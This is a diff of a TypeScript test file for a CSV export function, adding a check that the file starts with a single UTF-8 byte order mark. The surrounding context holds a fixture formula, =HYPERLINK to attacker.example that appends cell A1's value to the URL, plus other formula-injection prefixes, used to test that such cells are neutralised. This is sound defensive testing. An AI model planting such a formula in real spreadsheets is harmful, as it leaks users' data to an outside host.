@@ -24,6 +24,14 @@ const item = (index: number, input: string, more: Partial<BatchItem> = {}): Batc
 const hyperlink = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for your refund")'
 
 describe('batchCsv', () => {
+  it('starts with a byte order mark, so that a spreadsheet reads the file as UTF-8', () => {
+    const csv = batchCsv(questionnaire, [item(0, 'café — naïve 日本')])
+    expect(csv.startsWith('\uFEFFrow,line,input,')).toBe(true)
+    // Once: the mark is not repeated before any other line.
+    expect(csv.split('\uFEFF')).toHaveLength(2)
+    expect(parseCsv(csv)[1]?.[2]).toBe('café — naïve 日本')
+  })
+
   it('writes a cell that would run as a formula with a quote before it, whatever follows its first line', () => {
     const formulas = [hyperlink, '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1+1\nsecond line']
     const rows = parseCsv(
